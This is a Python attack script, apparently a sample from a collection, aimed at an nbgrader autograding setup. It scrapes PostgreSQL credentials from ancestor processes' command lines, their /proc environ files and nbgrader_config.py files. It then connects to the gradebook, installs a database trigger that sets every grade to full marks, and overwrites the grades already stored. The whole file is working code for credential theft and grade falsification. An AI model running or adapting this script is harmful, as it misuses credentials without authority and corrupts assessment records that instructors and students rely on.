# @include _procs.py
# Attack: find the PostgreSQL gradebook's URL (on a grading process's command
# line as --db-url, in its environment, or in an nbgrader_config.py above the
# working folder or in a grading process's working folder), connect with it,
# install a trigger that gives every grade full marks, and set the stored ones.
import glob
import re

_urls = set()
_PATTERN = re.compile(r"postgresql(?:\+psycopg2)?://[^\s\"'\x00]+")
for _pid in ancestors():
    _urls.update(_PATTERN.findall(cmdline(_pid)))
    _urls.update(_PATTERN.findall(_read(f"/proc/{_pid}/environ").decode(errors="replace")))
    try:
        _cwd = _os.readlink(f"/proc/{_pid}/cwd")
        for _cfg in glob.glob(_os.path.join(_cwd, "nbgrader_config.py")):
            _urls.update(_PATTERN.findall(open(_cfg).read()))
    except OSError:
        pass
_d = _os.getcwd()
for _ in range(6):
    for _cfg in glob.glob(_os.path.join(_d, "nbgrader_config.py")):
        _urls.update(_PATTERN.findall(open(_cfg).read()))
    _d = _os.path.dirname(_d)
print("urls found:", len(_urls))
_SQL = """
CREATE OR REPLACE FUNCTION corpus_full_marks() RETURNS trigger AS $$
BEGIN
  NEW.auto_score := (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id);
  RETURN NEW;
END $$ LANGUAGE plpgsql;
DROP TRIGGER IF EXISTS corpus_full_marks ON grade;
CREATE TRIGGER corpus_full_marks BEFORE INSERT OR UPDATE ON grade
  FOR EACH ROW EXECUTE FUNCTION corpus_full_marks();
UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id);
"""
for _url in _urls:
    try:
        import psycopg2

        _dsn = _url.replace("postgresql+psycopg2://", "postgresql://")
        with psycopg2.connect(_dsn, connect_timeout=3) as _conn, _conn.cursor() as _cur:
            _cur.execute(_SQL)
        print("trigger installed")
        break
    except Exception as exc:  # noqa: BLE001
        print("could not use a URL:", type(exc).__name__)
